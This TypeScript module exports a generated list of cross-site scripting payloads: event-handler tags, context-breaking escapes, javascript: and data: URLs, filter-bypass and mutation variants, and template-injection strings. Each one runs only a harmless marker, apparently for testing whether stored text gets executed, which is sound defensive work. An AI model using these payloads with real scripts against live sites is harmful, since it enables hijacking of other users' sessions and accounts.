const run = 'window.scriptRan=1';
const tags = ['img', 'svg', 'video', 'audio', 'iframe', 'object', 'details open', 'input autofocus', 'body', 'marquee'];
const events = ['onerror', 'onload', 'onfocus', 'ontoggle', 'onmouseover', 'onanimationstart'];
const escapes = ['', '"', "'", '">', "'>", '`>', '</textarea>', '</title>', '</script>', '</style>', '-->', ']]>'];

/** Texts that run a script, which sets `scriptRan` on the window, wherever stored text is taken for markup, code or an address. */
export const scriptPayloads: readonly string[] = [
  ...tags.flatMap((tag) => events.map((event) => `<${tag} src=x data=x ${event}=${run}>`)),
  ...escapes.map((escape) => `${escape}<script>${run}</script>`),
  ...escapes.map((escape) => `${escape}<img src=x onerror=${run}>`),
  ...['javascript:', 'JaVaScRiPt:', 'java\tscript:', 'data:text/html,<script>'].map((scheme) => `${scheme}${run}`),
  ...['href', 'xlink:href', 'formaction', 'srcdoc'].map((name) => `<a ${name}="javascript:${run}">x</a>`),
  `<svg><script>${run}</script></svg>`,
  `<math><mtext></mtext><mglyph><style><img src=x onerror=${run}></style></mglyph></math>`,
  `<template><script>${run}</script></template>`,
  `<meta http-equiv="refresh" content="0;url=javascript:${run}">`,
  `<base href="javascript:${run}//">`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `%3Cscript%3E${run}%3C/script%3E`,
  `&lt;script&gt;${run}&lt;/script&gt;`,
  `{{constructor.constructor('${run}')()}}`,
  `\${${run}}`,
  `\u2028${run}\u2029//`,
  `<style>@import 'javascript:${run}';</style>`,
];
